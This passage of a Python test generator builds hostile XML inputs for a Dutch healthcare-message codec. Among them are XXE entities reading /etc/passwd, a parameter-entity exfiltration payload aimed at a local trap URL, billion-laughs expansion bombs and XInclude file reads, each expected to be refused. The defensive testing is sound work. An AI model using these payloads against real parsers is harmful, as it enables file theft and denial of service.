"""Writes the hostile-input corpus: documents that try to crash, hang, expand, fetch or fool the codec.

Usage: ``python tests/hostile/generate.py [OUTDIR]`` (default ``tests/hostile/corpus/``, git-ignored).
Writes ``OUTDIR/documents/<category>--<variant>.xml`` and ``OUTDIR/manifest.json``, which lists for
every document its category, the verdict `check_document` must give (``not-xml``, ``unsupported``,
``invalid-xsd``, ``rejected-rules`` or ``valid``), why, its size and SHA-256, and for some valid
documents the field values decoding must yield. Deterministic: the same bytes on every run.

The seed messages are written here (our own values, test BSNs only), not copied from the reference
examples. Expected verdicts follow the standard and, where the standard leaves a choice, the codec's
documented policy (`gateway/codec/document.py`):

- a DOCTYPE (any DTD, so every XXE, billion-laughs and external-DTD document), an XInclude element,
  a declared encoding other than UTF-8, UTF-16/32 and a document over the size limit are refused
  unparsed or unexpanded: ``not-xml``;
- a UTF-8 byte order mark is tolerated (OP192 forbids it for senders; it changes no content): as
  the document without it;
- anything the hardened parser cannot parse (depth over libxml2's limit, bytes that are not UTF-8,
  control characters, ...) is ``not-xml``.
"""

from __future__ import annotations

import hashlib
import json
import random
import sys
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from gateway.settings import ParserSettings

NOT_XML = "not-xml"
UNSUPPORTED = "unsupported"
INVALID_XSD = "invalid-xsd"
REJECTED_RULES = "rejected-rules"
VALID = "valid"
VERDICTS = (NOT_XML, UNSUPPORTED, INVALID_XSD, REJECTED_RULES, VALID)

MAX_BYTES = ParserSettings().max_bytes
DEFAULT_OUTDIR = Path(__file__).resolve().parent / "corpus"
SEED = 20230401  # the random bytes of the binary documents; fixed so the corpus never changes by itself

NS_BASE = "http://www.istandaarden.nl"
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
# Test BSNs only (11-proof valid, 9999xxxxx), and one that fails the 11-proof.
BSN_CLIENT = "999900006"
BSN_OTHER = "999900018"
BSN_THIRD = "999900031"
BSN_NOT_ELFPROEF = "999900007"
# Where a document could be talked into reading a file or a URL. Nothing may ever fetch these; the
# tests listen on TRAP_PORT while the corpus is checked and fail if anything connects.
PASSWD = "file:///etc/passwd"
TRAP_PORT = 47291
UNREACHABLE = f"http://127.0.0.1:{TRAP_PORT}/hostile"


# ---------------------------------------------------------------- building seed messages


@dataclass(frozen=True, slots=True)
class El:
    """One element of a seed message: in the message (``m``) or basisschema (``b``) namespace."""

    ns: str
    name: str
    content: str | list[El]


def m(name: str, content: str | list[El]) -> El:
    return El("m", name, content)


def b(name: str, content: str | list[El]) -> El:
    return El("b", name, content)


@dataclass(frozen=True, slots=True)
class Style:
    """How a message is written: prefixes (None: default namespace), line ends, indent, declaration."""

    m_prefix: str | None
    b_prefix: str | None
    newline: str = "\r\n"  # the standard asks for CR/LF (OP179)
    indent: str = "\t"
    declaration: str | None = DECLARATION


@dataclass(frozen=True, slots=True)
class Seed:
    """A valid message: its name, namespaces and element tree."""

    name: str  # WMO305, JW302, ...
    standard: str  # iwmo | ijw
    number: int
    berichtcode: str
    body: list[El]

    @property
    def namespace(self) -> str:
        lower = "wmo" if self.standard == "iwmo" else "jw"
        return f"{NS_BASE}/{self.standard}/3_2/{lower}{self.number}/schema"

    @property
    def basis_namespace(self) -> str:
        return f"{NS_BASE}/{self.standard}/3_2/basisschema/schema"

    def style(self) -> Style:
        lower = "wmo" if self.standard == "iwmo" else "jw"
        return Style(f"{lower}{self.number}", self.standard)

    def render(
        self, style: Style | None = None, *, namespace: str | None = None, basis_namespace: str | None = None
    ) -> str:
        return render(
            self.body,
            style or self.style(),
            namespace or self.namespace,
            basis_namespace or self.basis_namespace,
        )


def render(body: list[El], style: Style, namespace: str, basis_namespace: str) -> str:
    """The document as text (not yet encoded)."""
    nl, out = style.newline, []
    if style.declaration is not None:
        out.append(style.declaration + nl)
    root = f"{style.m_prefix}:Bericht" if style.m_prefix else "Bericht"
    decls = [f'xmlns:{style.m_prefix}="{namespace}"' if style.m_prefix else f'xmlns="{namespace}"']
    if style.b_prefix:
        decls.append(f'xmlns:{style.b_prefix}="{basis_namespace}"')
    out.append(f"<{root} {' '.join(decls)}>{nl}")
    for element in body:
        _render(element, style, basis_namespace, 1, False, out)
    out.append(f"</{root}>{nl}")
    return "".join(out)


def _render(el: El, style: Style, basis_ns: str, depth: int, in_basis: bool, out: list[str]) -> None:
    prefix = style.m_prefix if el.ns == "m" else style.b_prefix
    tag = f"{prefix}:{el.name}" if prefix else el.name
    xmlns = ""
    if el.ns == "b" and style.b_prefix is None and not in_basis:
        xmlns = f' xmlns="{basis_ns}"'  # a basisschema subtree under the default namespace
    pad = style.indent * depth
    if isinstance(el.content, str):
        out.append(f"{pad}<{tag}{xmlns}>{el.content}</{tag}>{style.newline}")
        return
    out.append(f"{pad}<{tag}{xmlns}>{style.newline}")
    for child in el.content:
        _render(child, style, basis_ns, depth + 1, in_basis or el.ns == "b", out)
    out.append(f"{pad}</{tag}>{style.newline}")


def header(code: str, afzender: str, ontvanger: str, ident: str, dagtekening: str = "2025-03-03") -> list[El]:
    return [
        m("BerichtCode", code),
        m("BerichtVersie", "3"),
        m("BerichtSubversie", "2"),
        m("Afzender", afzender),
        m("Ontvanger", ontvanger),
        m("BerichtIdentificatie", [b("Identificatie", ident), b("Dagtekening", dagtekening)]),
        m("XsdVersie", [b("BasisschemaXsdVersie", "1.0.0"), b("BerichtXsdVersie", "1.0.0")]),
    ]


GEMEENTE = "0363"
AANBIEDER = "87654321"
CODES = {
    ("iwmo", 301): "414",
    ("iwmo", 302): "415",
    ("iwmo", 305): "418",
    ("iwmo", 306): "419",
    ("iwmo", 319): "482",
    ("ijw", 301): "436",
    ("ijw", 302): "437",
    ("ijw", 305): "438",
    ("ijw", 306): "439",
    ("ijw", 319): "488",
}
PRODUCT = {"iwmo": ("02", "02A01"), "ijw": ("45", "45A01")}


def toegewezen_product(
    standard: str,
    nummer: str,
    commentaar: str | None = None,
    ingangsdatum: str = "2025-03-10",
    einddatum: str = "2025-12-31",
    tijd: str = "10:15:00",
    code: str | None = None,
) -> El:
    categorie, default_code = PRODUCT[standard]
    code = code or default_code
    children = [
        m("ToewijzingNummer", nummer),
        m("Product", [b("Categorie", categorie), b("Code", code)]),
        m("Toewijzingsdatum", "2025-03-03"),
        m("Toewijzingstijd", tijd),
        m("Ingangsdatum", ingangsdatum),
        m("Einddatum", einddatum),
        m("Omvang", [b("Volume", "4"), b("Eenheid", "04"), b("Frequentie", "2")]),
    ]
    if commentaar is not None:
        children.append(m("Commentaar", commentaar))
    return m("ToegewezenProduct", children)


def toewijzing(
    standard: str = "iwmo",
    *,
    bsn: str = BSN_OTHER,
    achternaam: str = "Bakker",
    commentaar: str | None = None,
    products: list[El] | None = None,
) -> Seed:
    """A 301: one client, one address, one toegewezen product per element of `products`."""
    client = [
        m("Bsn", bsn),
        m("Geboortedatum", [b("Datum", "1950-02-03")]),
        m("Geslacht", "2"),
        m(
            "Naam",
            [
                b("Geslachtsnaam", [b("Achternaam", achternaam)]),
                b("Voornamen", "Anna"),
                b("Voorletters", "A"),
                b("NaamGebruik", "1"),
            ],
        ),
    ]
    if commentaar is not None:
        client.append(m("Commentaar", commentaar))
    client += [
        m(
            "Contactgegevens",
            [
                m(
                    "Contact",
                    [
                        m("Soort", "01"),
                        m(
                            "Adres",
                            [
                                b("Huis", [b("Huisnummer", "12")]),
                                b("Postcode", "3511AA"),
                                b("Straatnaam", "Oudegracht"),
                                b("Plaatsnaam", "Utrecht"),
                                b("LandCode", "NL"),
                            ],
                        ),
                    ],
                )
            ],
        ),
        m("ToegewezenProducten", products or [toegewezen_product(standard, "300201")]),
    ]
    body = [m("Header", header(CODES[standard, 301], GEMEENTE, AANBIEDER, "HOST-301")), m("Client", client)]
    return Seed(f"{'WMO' if standard == 'iwmo' else 'JW'}301", standard, 301, CODES[standard, 301], body)


def start(
    standard: str = "iwmo", *, bsn: str = BSN_CLIENT, achternaam: str = "Visser", nummer: str = "300201"
) -> Seed:
    """A 305: one client with one start product."""
    categorie, code = PRODUCT[standard]
    client = [
        m("Bsn", bsn),
        m("Geboortedatum", [b("Datum", "1961-07-15")]),
        m("Geslacht", "1"),
        m(
            "Naam",
            [
                b("Geslachtsnaam", [b("Achternaam", achternaam), b("Voorvoegsel", "de")]),
                b("Voornamen", "Pieter"),
                b("Voorletters", "P"),
            ],
        ),
        m(
            "StartProducten",
            [
                m(
                    "StartProduct",
                    [
                        m("ToewijzingNummer", nummer),
                        m("Product", [b("Categorie", categorie), b("Code", code)]),
                        m("ToewijzingIngangsdatum", "2025-03-10"),
                        m("Begindatum", "2025-03-12"),
                        m("StatusAanlevering", "1"),
                    ],
                )
            ],
        ),
    ]
    # Dagtekening on or after the Begindatum: a start is reported once it has happened.
    body = [
        m("Header", header(CODES[standard, 305], AANBIEDER, GEMEENTE, "HOST-305", "2025-03-14")),
        m("Client", client),
    ]
    return Seed(f"{'WMO' if standard == 'iwmo' else 'JW'}305", standard, 305, CODES[standard, 305], body)


def antwoord(standard: str = "iwmo") -> Seed:
    """A 319: no client, an answer 'under investigation' (so no RedenAfwijzingVerzoek, CD085/CD086)."""
    body = [
        m("Header", header(CODES[standard, 319], GEMEENTE, AANBIEDER, "HOST-319")),
        m("Antwoord", [m("ReferentieAanbieder", "VOT-2025-017"), m("VerzoekAntwoord", "2")]),
    ]
    return Seed(f"{'WMO' if standard == 'iwmo' else 'JW'}319", standard, 319, CODES[standard, 319], body)


def retour(standard: str, number: int, *, codes: tuple[str, ...] = ()) -> Seed:
    """A retour (302/306) on a heen message nobody sent: the copied header plus the retour's own fields."""
    heen = number - 1
    afzender, ontvanger = (GEMEENTE, AANBIEDER) if heen == 301 else (AANBIEDER, GEMEENTE)
    fields = [
        *header(CODES[standard, number], afzender, ontvanger, f"NOBODY-{heen}"),
        m("IdentificatieRetour", f"RET-{number}-1"),
        m("DagtekeningRetour", "2025-03-05"),
        m("XsdVersieRetour", [b("BasisschemaXsdVersie", "1.0.0"), b("BerichtXsdVersie", "1.0.0")]),
    ]
    if codes:
        fields.append(m("RetourCodes", [m("RetourCode", code) for code in codes]))
    name = f"{'WMO' if standard == 'iwmo' else 'JW'}{number}"
    return Seed(name, standard, number, CODES[standard, number], [m("Header", fields)])


def seeds() -> dict[str, Seed]:
    """The valid seed messages by name."""
    found = [
        toewijzing("iwmo"),
        toewijzing("ijw"),
        start("iwmo"),
        start("ijw"),
        antwoord("iwmo"),
        antwoord("ijw"),
        retour("iwmo", 306),
        retour("ijw", 302),
        retour("ijw", 306),
    ]
    return {seed.name: seed for seed in found}


# ---------------------------------------------------------------- the corpus


@dataclass(frozen=True, slots=True)
class Doc:
    """One corpus document and what `check_document` must say about it."""

    category: str
    variant: str
    expected: str
    why: str
    data: bytes
    message: str | None = None  # the message type when the document is a (near) message
    decoded: dict[str, Any] = field(default_factory=dict)  # dotted attribute path -> value, valid docs only

    @property
    def file(self) -> str:
        return f"documents/{self.category}--{self.variant}.xml"


def sub(text: str, old: str, new: str, count: int = 1) -> str:
    """Replace exactly `count` occurrences (1 by default), so a mutation never silently misses."""
    found = text.count(old)
    if found != count:
        raise ValueError(f"expected {count} occurrence(s) of {old!r}, found {found}")
    return text.replace(old, new)


def utf8(text: str) -> bytes:
    return text.encode("utf-8")


def _305(**kwargs: Any) -> str:
    return start(**kwargs).render()


def _with_doctype(text: str, doctype: str) -> str:
    return sub(text, DECLARATION + "\r\n", DECLARATION + "\r\n" + doctype + "\r\n")


def not_xml() -> Iterator[Doc]:
    rng = random.Random(SEED)
    why = "not XML at all"
    yield Doc("not-xml", "random-bytes-4k", NOT_XML, why, rng.randbytes(4096))
    yield Doc("not-xml", "random-bytes-1", NOT_XML, why, rng.randbytes(1))
    yield Doc("not-xml", "random-bytes-starting-with-lt", NOT_XML, why, b"<" + rng.randbytes(2048))
    yield Doc(
        "not-xml", "png-header", NOT_XML, why, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(64)
    )
    yield Doc(
        "not-xml",
        "pdf",
        NOT_XML,
        why,
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
    )
    yield Doc(
        "not-xml",
        "zlib-compressed-message",
        NOT_XML,
        "a valid message, but deflated",
        zlib.compress(utf8(_305()), 9),
    )
    yield Doc(
        "not-xml",
        "json",
        NOT_XML,
        why,
        json.dumps({"Bericht": {"Header": {"BerichtCode": "418"}, "Client": {"Bsn": BSN_CLIENT}}}).encode(),
    )
    yield Doc("not-xml", "json-array", NOT_XML, why, b'[{"<Bericht>": 1}]')
    yield Doc(
        "not-xml",
        "html",
        NOT_XML,
        "HTML with void elements is not well-formed XML",
        b"<!-- page --><html><head><meta charset='utf-8'><title>x</title></head>"
        b"<body><p>Bericht<br></body></html>",
    )
    yield Doc(
        "not-xml", "plain-text", NOT_XML, why, b"Geachte heer, hierbij het bericht. Groet, Jansen\r\n"
    )
    yield Doc("not-xml", "csv", NOT_XML, why, b"bsn;achternaam\r\n999900006;Visser\r\n")
    yield Doc("not-xml", "yaml", NOT_XML, why, b"Bericht:\n  Header:\n    BerichtCode: 418\n")
    yield Doc("not-xml", "two-roots", NOT_XML, "two root elements", utf8(_305() + _305().split("\r\n", 1)[1]))
    yield Doc(
        "not-xml",
        "text-after-root",
        NOT_XML,
        "character data after the root element",
        utf8(_305() + "einde\r\n"),
    )
    yield Doc("not-xml", "only-declaration", NOT_XML, "an XML declaration and no element", utf8(DECLARATION))
    yield Doc("not-xml", "only-comment", NOT_XML, "a comment and no element", b"<!-- Bericht -->")
    yield Doc(
        "not-xml",
        "whitespace-before-declaration",
        NOT_XML,
        "the XML declaration must be the very first thing",
        utf8(" \r\n" + _305()),
    )
    yield Doc(
        "not-xml",
        "undeclared-entity",
        NOT_XML,
        "an entity reference with no declaration",
        utf8(sub(_305(), ">Visser<", ">&foo;<")),
    )
    yield Doc(
        "not-xml",
        "mismatched-end-tag",
        NOT_XML,
        "end tag does not match",
        utf8(sub(_305(), "</wmo305:Geslacht>", "</wmo305:Geslachtt>")),
    )
    yield Doc(
        "not-xml",
        "unquoted-attribute",
        NOT_XML,
        "attribute value without quotes",
        utf8(sub(_305(), "<wmo305:Client>", "<wmo305:Client a=1>")),
    )
    yield Doc(
        "not-xml",
        "lt-in-text",
        NOT_XML,
        "a raw '<' in character data",
        utf8(sub(_305(), ">Visser<", ">Vis < ser<")),
    )
    yield Doc(
        "not-xml",
        "bare-ampersand",
        NOT_XML,
        "a raw '&' in character data",
        utf8(sub(_305(), ">Visser<", ">Visser & Zn<")),
    )


def empty() -> Iterator[Doc]:
    yield Doc("empty", "zero-bytes", NOT_XML, "no bytes at all", b"")
    yield Doc("empty", "utf8-bom-only", NOT_XML, "only a byte order mark", b"\xef\xbb\xbf")


def whitespace() -> Iterator[Doc]:
    for variant, data in [
        ("space", b" "),
        ("crlf", b"\r\n"),
        ("tabs-and-newlines", b"\t\n\t\r\n  \n"),
        ("64k-spaces", b" " * 65536),
        ("bom-then-spaces", b"\xef\xbb\xbf   \r\n"),
    ]:
        yield Doc("whitespace", variant, NOT_XML, "whitespace only", data)


def truncated() -> Iterator[Doc]:
    """Prefixes of valid messages: every one stops before the root's end tag is complete."""
    for seed in (start("iwmo", achternaam="Müller"), toewijzing("ijw"), retour("iwmo", 306)):
        data = utf8(seed.render())
        end = data.rindex(b">")  # the '>' of the root's end tag: any shorter prefix is unfinished
        points = sorted(
            {1, 5, 21, 38, 39, len(DECLARATION) + 2, end, end - 1, end - 9}
            | {end * k // 13 for k in range(1, 13)}
        )
        if seed.name == "WMO305":
            u = data.index("ü".encode())
            points = sorted({*points, u + 1})  # in the middle of a two-byte UTF-8 character
        for point in points:
            yield Doc(
                "truncated",
                f"{seed.name.lower()}-at-{point:05d}",
                NOT_XML,
                f"the first {point} of {len(data)} bytes of a valid {seed.name}",
                data[:point],
                seed.name,
            )


def _big_toewijzing(target: int, *, per_product: int) -> bytes:
    """A valid 301 of about `target` bytes: products with long Commentaar text (each under libxml2's
    10 MB text-node limit, which is a parser limit, not the standard's)."""
    filler = ("Zorg volgens plan. " * (per_product // 19 + 1))[:per_product].strip()
    one = [toegewezen_product("iwmo", "300201", commentaar=filler)]
    base = len(utf8(toewijzing(products=one).render()))
    each = len(utf8(toewijzing(products=one * 2).render())) - base
    count = 1 + (target - base) // each
    # A product code of its own per line: the same product twice in one period is stacking (level 2).
    products = [
        toegewezen_product("iwmo", str(300201 + i), commentaar=filler, code=f"Z{i:04d}") for i in range(count)
    ]
    data = utf8(toewijzing(products=products).render())
    pad = target - len(data)
    if pad < 0:
        raise ValueError(f"overshot {target} by {-pad} bytes")
    # Trailing whitespace after the root element is allowed and brings the size to the byte.
    return data + b" " * pad


def size() -> Iterator[Doc]:
    limit = MAX_BYTES
    yield Doc(
        "size",
        "30mb-valid-toewijzing",
        NOT_XML,
        f"30 MiB, over the limit of {limit} bytes: not parsed",
        _big_toewijzing(30 * 1024 * 1024, per_product=100_000),
        "WMO301",
    )
    yield Doc(
        "size",
        "limit-plus-one",
        NOT_XML,
        "one byte over the limit: not parsed",
        _big_toewijzing(limit + 1, per_product=100_000),
        "WMO301",
    )
    yield Doc("size", "30mb-zeros", NOT_XML, "30 MiB of NUL bytes, over the limit", bytes(30 * 1024 * 1024))
    yield Doc(
        "size",
        "exactly-the-limit",
        VALID,
        "a valid 301 of exactly the limit: allowed",
        _big_toewijzing(limit, per_product=100_000),
        "WMO301",
    )
    yield Doc(
        "size",
        "just-under-limit",
        VALID,
        "a valid 301 just under the limit (many products)",
        _big_toewijzing(limit - 4096, per_product=20_000),
        "WMO301",
    )


def nested() -> Iterator[Doc]:
    def deep(levels: int, tag: str = "a", attrs: str = "") -> str:
        return f"<{tag}{attrs}>" * levels + "x" + f"</{tag}>" * levels

    ns = start().namespace
    why = "nesting deeper than the hardened parser's limit (256): refused, not recursed into"
    for levels in (10_000, 50_000, 100_000):
        yield Doc(
            "nested",
            f"unknown-elements-{levels}",
            NOT_XML,
            why,
            utf8(f'{DECLARATION}<Bericht xmlns="{ns}">{deep(levels)}</Bericht>'),
            "WMO305",
        )
    inner = deep(20_000, "wmo305:Achternaam")
    yield Doc(
        "nested",
        "in-achternaam-20000",
        NOT_XML,
        why,
        utf8(sub(_305(), "<iwmo:Achternaam>Visser</iwmo:Achternaam>", inner)),
        "WMO305",
    )
    yield Doc(
        "nested",
        "namespace-declarations-10000",
        NOT_XML,
        why,
        utf8(
            f'{DECLARATION}<Bericht xmlns="{ns}">'
            + "".join(f'<p{i}:a xmlns:p{i}="urn:x:{i}">' for i in range(10_000))
            + "".join(f"</p{i}:a>" for i in reversed(range(10_000)))
            + "</Bericht>"
        ),
        "WMO305",
    )
    yield Doc(
        "nested",
        "self-closing-tail-100000",
        NOT_XML,
        why,
        utf8(
            f'{DECLARATION}<Bericht xmlns="{ns}">'
            + "<a>" * 100_000
            + "<b/>"
            + "</a>" * 100_000
            + "</Bericht>"
        ),
        "WMO305",
    )
    yield Doc(
        "nested",
        "within-limit-200-in-client",
        INVALID_XSD,
        "200 levels parse fine; unknown elements in Client are not in the XSD",
        utf8(sub(_305(), "<wmo305:Bsn>", deep(200, "wmo305:Extra") + "<wmo305:Bsn>")),
        "WMO305",
    )


def xxe() -> Iterator[Doc]:
    why = "a DOCTYPE with entity declarations: refused, nothing loaded or expanded"
    base = sub(_305(), ">Visser<", ">&xxe;<")
    cases = {
        "file-passwd": f'<!DOCTYPE wmo305:Bericht [<!ENTITY xxe SYSTEM "{PASSWD}">]>',
        "file-hostname": '<!DOCTYPE wmo305:Bericht [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>',
        "relative-path": '<!DOCTYPE wmo305:Bericht [<!ENTITY xxe SYSTEM "../../../../etc/passwd">]>',
        "http-url": f'<!DOCTYPE wmo305:Bericht [<!ENTITY xxe SYSTEM "{UNREACHABLE}/xxe">]>',
        "https-url": '<!DOCTYPE wmo305:Bericht [<!ENTITY xxe SYSTEM "https://example.invalid/xxe">]>',
        "public-id-url": f'<!DOCTYPE wmo305:Bericht [<!ENTITY xxe PUBLIC "-//X//Y//EN" "{UNREACHABLE}/p">]>',
        "parameter-entity-url": (
            '<!DOCTYPE wmo305:Bericht [<!ENTITY % ext SYSTEM "'
            f'{UNREACHABLE}/ext.dtd"> %ext; <!ENTITY xxe "x">]>'
        ),
        "parameter-entity-exfiltration": (
            f'<!DOCTYPE wmo305:Bericht [<!ENTITY % file SYSTEM "{PASSWD}">'
            f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{UNREACHABLE}/?x=%file;'>\"> %eval; %exfil;"
            '<!ENTITY xxe "x">]>'
        ),
    }
    for variant, doctype in cases.items():
        yield Doc("xxe", variant, NOT_XML, why, utf8(_with_doctype(base, doctype)), "WMO305")
    in_bsn = _with_doctype(
        sub(_305(), f">{BSN_CLIENT}<", ">&xxe;<"),
        f'<!DOCTYPE wmo305:Bericht [<!ENTITY xxe SYSTEM "{PASSWD}">]>',
    )
    yield Doc("xxe", "file-passwd-in-bsn", NOT_XML, why, utf8(in_bsn), "WMO305")
    doctype_late = sub(
        _305(), "<wmo305:Bericht ", f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{PASSWD}">]>\r\n<wmo305:Bericht '
    )
    yield Doc(
        "xxe",
        "doctype-without-declaration",
        NOT_XML,
        why,
        utf8(sub(doctype_late, DECLARATION + "\r\n", "").replace(">Visser<", ">&xxe;<")),
        "WMO305",
    )


def laughs() -> Iterator[Doc]:
    why = "entity expansion bomb in a DOCTYPE: refused, nothing expanded"
    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    billion = "<!DOCTYPE wmo305:Bericht [" + "".join(lol) + "]>"
    yield Doc(
        "laughs",
        "billion-in-achternaam",
        NOT_XML,
        why,
        utf8(_with_doctype(sub(_305(), ">Visser<", ">&lol9;<"), billion)),
        "WMO305",
    )
    yield Doc(
        "laughs",
        "billion-in-attribute",
        NOT_XML,
        why,
        utf8(_with_doctype(sub(_305(), "<wmo305:Client>", '<wmo305:Client a="&lol9;">'), billion)),
        "WMO305",
    )
    yield Doc(
        "laughs",
        "billion-referenced-many-times",
        NOT_XML,
        why,
        utf8(_with_doctype(sub(_305(), ">Visser<", ">" + "&lol9;" * 100 + "<"), billion)),
        "WMO305",
    )
    param = (
        "<!DOCTYPE wmo305:Bericht [<!ENTITY % pe0 \"&#x3C;!ENTITY big 'lol'>\">"
        + "".join(f'<!ENTITY % pe{i} "{("%pe" + str(i - 1) + ";") * 10}">' for i in range(1, 8))
        + " %pe7;]>"
    )
    yield Doc(
        "laughs",
        "parameter-entities",
        NOT_XML,
        why,
        utf8(_with_doctype(sub(_305(), ">Visser<", ">&big;<"), param)),
        "WMO305",
    )
    quadratic = f'<!DOCTYPE wmo305:Bericht [<!ENTITY a "{"a" * 50_000}">]>'
    yield Doc(
        "laughs",
        "quadratic-blowup",
        NOT_XML,
        why + " (50k x 5k = 250 MB if expanded)",
        utf8(_with_doctype(sub(_305(), ">Visser<", ">" + "&a;" * 5_000 + "<"), quadratic)),
        "WMO305",
    )
    yield Doc(
        "laughs",
        "quadratic-in-commentaar",
        NOT_XML,
        why,
        utf8(
            _with_doctype(
                toewijzing(commentaar="&a;" * 20_000).render(), quadratic.replace("wmo305", "wmo301")
            )
        ),
        "WMO301",
    )


def external_dtd() -> Iterator[Doc]:
    why = "a DOCTYPE naming an external DTD: refused, nothing fetched"
    cases = {
        "system-file": f'<!DOCTYPE wmo305:Bericht SYSTEM "{PASSWD}">',
        "system-http": f'<!DOCTYPE wmo305:Bericht SYSTEM "{UNREACHABLE}/bericht.dtd">',
        "system-relative": '<!DOCTYPE wmo305:Bericht SYSTEM "bericht.dtd">',
        "system-our-xsd": '<!DOCTYPE wmo305:Bericht SYSTEM "../../schemas/iwmo/3_2/WMO305.xsd">',
        "public-xhtml": (
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
        ),
        "public-with-internal-subset": (
            f'<!DOCTYPE wmo305:Bericht PUBLIC "-//X//Y//EN" "{UNREACHABLE}/p.dtd" '
            "[<!ELEMENT wmo305:Bericht ANY>]>"
        ),
    }
    for variant, doctype in cases.items():
        yield Doc("external-dtd", variant, NOT_XML, why, utf8(_with_doctype(_305(), doctype)), "WMO305")


def internal_dtd() -> Iterator[Doc]:
    why = "a DOCTYPE, even without entities, is refused: DTDs are not part of the standard"
    cases = {
        "name-only": "<!DOCTYPE wmo305:Bericht>",
        "empty-subset": "<!DOCTYPE wmo305:Bericht []>",
        "element-any": "<!DOCTYPE wmo305:Bericht [<!ELEMENT wmo305:Bericht ANY>]>",
        "attlist-default": (
            '<!DOCTYPE wmo305:Bericht [<!ATTLIST wmo305:Client status CDATA "ingeschreven">]>'
        ),
        "comment-in-subset": "<!DOCTYPE wmo305:Bericht [<!-- niets -->]>",
        "lowercase-keyword-is-not-xml": "<!doctype wmo305:Bericht>",
    }
    for variant, doctype in cases.items():
        yield Doc("internal-dtd", variant, NOT_XML, why, utf8(_with_doctype(_305(), doctype)), "WMO305")


def xinclude() -> Iterator[Doc]:
    why = "an XInclude element: refused, nothing included"
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    cases = {
        "text-file-in-achternaam": f'<xi:include {xi} href="{PASSWD}" parse="text"/>',
        "xml-url-in-achternaam": f'<xi:include {xi} href="{UNREACHABLE}/naam.xml"/>',
        "url-with-fallback": (
            f'<xi:include {xi} href="{UNREACHABLE}/naam.xml"><xi:fallback>Visser</xi:fallback></xi:include>'
        ),
        "relative-schema-file": f'<xi:include {xi} href="../../schemas/iwmo/3_2/WMO305.xsd" parse="text"/>',
        "xinclude-2003-namespace": (
            f'<xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="{PASSWD}" parse="text"/>'
        ),
    }
    for variant, include in cases.items():
        yield Doc("xinclude", variant, NOT_XML, why, utf8(sub(_305(), "Visser", include)), "WMO305")
    whole_client = sub(
        _305(), "<wmo305:Client>", f'<xi:include {xi} href="{UNREACHABLE}/client.xml"/><wmo305:Client>'
    )
    yield Doc("xinclude", "url-instead-of-sibling", NOT_XML, why, utf8(whole_client), "WMO305")


def encoding() -> Iterator[Doc]:
    text = _305(achternaam="Müller")
    decl_latin1 = sub(text, DECLARATION, '<?xml version="1.0" encoding="ISO-8859-1"?>')
    not_utf8 = "the standard requires UTF-8 (OP192); any other encoding is refused"
    yield Doc(
        "encoding",
        "declares-latin1-utf8-bytes",
        NOT_XML,
        not_utf8 + " (and this one lies)",
        utf8(decl_latin1),
        "WMO305",
    )
    yield Doc(
        "encoding", "declares-latin1-latin1-bytes", NOT_XML, not_utf8, decl_latin1.encode("latin-1"), "WMO305"
    )
    yield Doc(
        "encoding",
        "declares-latin1-ascii-only",
        NOT_XML,
        not_utf8,
        sub(_305(), DECLARATION, '<?xml version="1.0" encoding="ISO-8859-1"?>').encode(),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "declares-windows-1252",
        NOT_XML,
        not_utf8,
        sub(text, DECLARATION, "<?xml version='1.0' encoding='windows-1252'?>").encode("cp1252"),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "declares-us-ascii-utf8-bytes",
        NOT_XML,
        not_utf8,
        utf8(sub(text, DECLARATION, '<?xml version="1.0" encoding="US-ASCII"?>')),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "declares-unknown-encoding",
        NOT_XML,
        not_utf8,
        utf8(sub(text, DECLARATION, '<?xml version="1.0" encoding="x-klingon"?>')),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "declares-utf8-latin1-bytes",
        NOT_XML,
        "declares UTF-8 but byte 0xFC is not UTF-8",
        text.encode("latin-1"),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "no-declaration-latin1-bytes",
        NOT_XML,
        "UTF-8 by default, byte 0xFC is not UTF-8",
        sub(text, DECLARATION + "\r\n", "").encode("latin-1"),
        "WMO305",
    )
    utf16 = sub(text, DECLARATION, '<?xml version="1.0" encoding="UTF-16"?>')
    yield Doc(
        "encoding", "utf16-le-bom", NOT_XML, not_utf8, b"\xff\xfe" + utf16.encode("utf-16-le"), "WMO305"
    )
    yield Doc(
        "encoding", "utf16-be-bom", NOT_XML, not_utf8, b"\xfe\xff" + utf16.encode("utf-16-be"), "WMO305"
    )
    yield Doc(
        "encoding",
        "utf16-le-no-bom",
        NOT_XML,
        not_utf8,
        sub(text, DECLARATION, '<?xml version="1.0" encoding="UTF-16LE"?>').encode("utf-16-le"),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "utf16-be-no-bom",
        NOT_XML,
        not_utf8,
        sub(text, DECLARATION, '<?xml version="1.0" encoding="UTF-16BE"?>').encode("utf-16-be"),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "utf16-le-bom-declares-utf8",
        NOT_XML,
        not_utf8 + " (BOM and declaration disagree)",
        b"\xff\xfe" + text.encode("utf-16-le"),
        "WMO305",
    )
    yield Doc(
        "encoding",
        "utf32-le-bom",
        NOT_XML,
        not_utf8,
        b"\xff\xfe\x00\x00"
        + sub(text, DECLARATION, '<?xml version="1.0" encoding="UTF-32"?>').encode("utf-32-le"),
        "WMO305",
    )
    achternaam = {"client.naam.geslachtsnaam.achternaam": "Müller"}
    tolerated = "a UTF-8 byte order mark is tolerated (codec policy; OP192 forbids it for senders)"
    yield Doc("encoding", "utf8-bom", VALID, tolerated, b"\xef\xbb\xbf" + utf8(text), "WMO305", achternaam)
    yield Doc(
        "encoding",
